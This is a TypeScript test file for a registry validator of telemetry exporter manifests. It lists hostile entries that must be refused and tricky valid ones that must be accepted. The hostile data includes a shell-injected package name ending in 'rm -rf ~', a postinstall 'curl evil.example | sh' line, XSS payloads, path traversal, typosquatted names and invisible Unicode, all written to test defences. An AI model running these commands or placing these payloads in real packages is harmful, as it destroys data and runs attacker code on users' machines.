import { Ajv2020 } from "ajv/dist/2020.js";
import { describe, expect, it } from "vitest";
import { validateRegistry } from "../../src/index.ts";
import type { Finding } from "../../src/index.ts";
import { fileOf, manifestOf } from "../support/manifests.ts";

type Changes = Readonly<Record<string, unknown>>;

/** What each has that a registry must not list, and the rule that refuses it. */
const HOSTILE: readonly [what: string, rule: string, changes: Changes][] = [
  ["an id that is a path", "id-format", { id: "../../etc" }],
  ["an id with capitals", "id-format", { id: "Acme" }],
  ["an id with a Cyrillic letter", "id-format", { id: "\u0430cme" }],
  ["an id that every object has", "id-format", { id: "__proto__" }],
  ["an id that Windows cannot store", "id-format", { id: "con" }],
  ["an id that is an option", "id-format", { id: "--help" }],
  ["an id without an end", "id-format", { id: "a".repeat(5000) }],
  ["the id of the standard output", "id-reserved", { id: "stdout" }],
  ["the id of Charm's own exporter", "id-reserved", { id: "datadog" }],
  ["an id one letter from Charm's own", "id-similar", { id: "dataddog" }],
  ["an id that looks like Charm's own", "id-similar", { id: "datad0g" }],
  ["a package that leaves the registry's address", "npm-name", { npm_package: "@acme/../../x" }],
  ["a package that is a shell's command", "npm-name", { npm_package: "charm-telemetry-x; rm -rf ~" }],
  ["a package that is an option of npm", "npm-name", { npm_package: "--global" }],
  ["a package one letter from Charm's own", "npm-similar", { npm_package: "@charn/telemetry-datadog" }],
  ["markup in the description", "text-html", { description: "Sends runs <img src=x onerror=alert(1)>." }],
  ["a script in the name", "text-html", { name: "<script>alert(1)</script>" }],
  ["markup as entities", "text-html", { author: "Acme &lt;b&gt; &#60;i&#62;" }],
  ["text that runs backwards", "text-invisible", { description: "Sends runs to \u202eemca\u202c." }],
  ["text that cannot be seen", "text-invisible", { name: "Ac\u200bme" }],
  ["a terminal's escape sequence", "text-invisible", { author: "Acme\u001b[2J" }],
  ["a name with a letter of another script", "text-mixed-script", { name: "D\u0430tadog" }],
  ["a description of many lines", "text-line", { description: "Sends runs.\n\n# Verified by Charm" }],
  ["a description without an end", "text-length", { description: "x".repeat(10_000) }],
  ["an empty name", "text-length", { name: "" }],
  ["a link that runs a script", "github-url", { github_url: "javascript:alert(1)" }],
  ["a link to somewhere else", "github-url", { github_url: "https://github.com.evil.example/a/b" }],
  ["a link with a password", "github-url", { github_url: "https://github.com:x@evil.example/a/b" }],
  ["a link that is none", "github-url", { github_url: "acme on GitHub" }],
  ["a range of versions", "version-exact", { version: "^1.0.0" }],
  ["whatever version is newest", "version-exact", { version: "latest" }],
  ["a licence that nobody knows", "license-spdx", { license: "Free for my friends" }],
  ["a tag that is markup", "tags", { tags: ["<b>hot</b>"] }],
  ["tags that are no list", "wrong-type", { tags: "tracing" }],
  ["a badge that it gave itself", "unknown-field", { verified: true }],
  ["a script to run at installation", "unknown-field", { postinstall: "curl evil.example | sh" }],
];

/** What looks wrong and is right. */
const TRICKY: readonly [what: string, changes: Changes][] = [
  ["less than", { description: "Traces with p50 < 5 ms and errors > 1 %." }],
  ["an ampersand", { author: "Smith & Sons" }],
  ["Japanese", { name: "観測サービス", description: "エージェントの実行をトレースとして送信します。" }],
  ["Latin beside Japanese", { name: "Acme観測" }],
  ["Cyrillic alone", { name: "Наблюдатель" }],
  ["two scripts in two words", { name: "Acme Наблюдатель" }],
  ["accents", { author: "Göran Łukasiewicz-Ñandú" }],
  ["a micro sign", { description: "Costs less than 5 µs for each event." }],
  ["emoji", { description: "Sends agent runs 🎉 as traces 📈." }],
  ["quotes and backslashes", { description: 'Says "C:\\temp\\run" where a run is.' }],
  ["280 characters outside the basic plane", { description: "𠮷".repeat(280) }],
  ["an id that contains Charm's own", { id: "datadog-eu" }],
  ["an id of two letters", { id: "qx" }],
  ["a scope with any name in it", { npm_package: "@acme/observability" }],
  ["a prerelease", { version: "2.0.0-beta.1" }],
  ["one of two licences", { license: "MIT OR Apache-2.0" }],
  ["an exception to a licence", { license: "GPL-3.0-only WITH Classpath-exception-2.0" }],
  ["a folder of a repository", { github_url: "https://github.com/acme/mono/tree/main/packages/telemetry" }],
  [
    "a schema named for the editor",
    { $schema: "https://charmaios.github.io/charm-telemetry-js/schemas/exporter.v1.json" },
  ],
  ["a status", { status: { state: "deprecated", reason: "Acme has closed." } }],
];

/** What the community's registry for Python asks of an entry, as its documentation and schema say: the form, and little of it. */
const PYTHONS = {
  type: "object",
  required: ["id", "pypi_package", "description", "author"],
  properties: {
    id: { type: "string", pattern: "^[a-z0-9-_]+$" },
    pypi_package: { type: "string" },
    description: { type: "string" },
    author: { type: "string" },
    tags: { type: "array", items: { type: "string" } },
    github_url: { type: "string", format: "uri" },
  },
};

function judge(changes: Changes): Finding[] {
  const { id } = { id: "acme", ...changes };
  const file = /^[a-z][a-z0-9-]*$/.test(id) ? id : "acme";
  return validateRegistry({ files: [fileOf(file, { ...manifestOf("acme"), ...changes })] });
}

describe("an entry with", () => {
  it.each(HOSTILE)("%s is refused by %s", (_, rule, changes) => {
    const errors = judge(changes).filter(({ severity }) => severity === "error");
    expect(errors.map((each) => each.rule)).toContain(rule);
  });

  it.each(TRICKY)("%s is accepted", (_, changes) => {
    expect(judge(changes)).toEqual([]);
  });
});

it("accepts none of 36 hostile entries, of which a schema for the form alone accepts 31", () => {
  const ajv = new Ajv2020({ formats: { uri: (text: string) => URL.canParse(text) } });
  const hasRightForm = ajv.compile(PYTHONS);
  const accepted = (isAccepted: (changes: Changes) => boolean): number =>
    HOSTILE.filter(([, , changes]) => isAccepted(changes)).length;
  expect(HOSTILE).toHaveLength(36);
  const asForPython = (changes: Changes): object => ({ ...manifestOf("acme"), pypi_package: "acme", ...changes });
  expect(accepted((changes) => hasRightForm(asForPython(changes)))).toBe(31);
  expect(accepted((changes) => !judge(changes).some(({ severity }) => severity === "error"))).toBe(0);
});
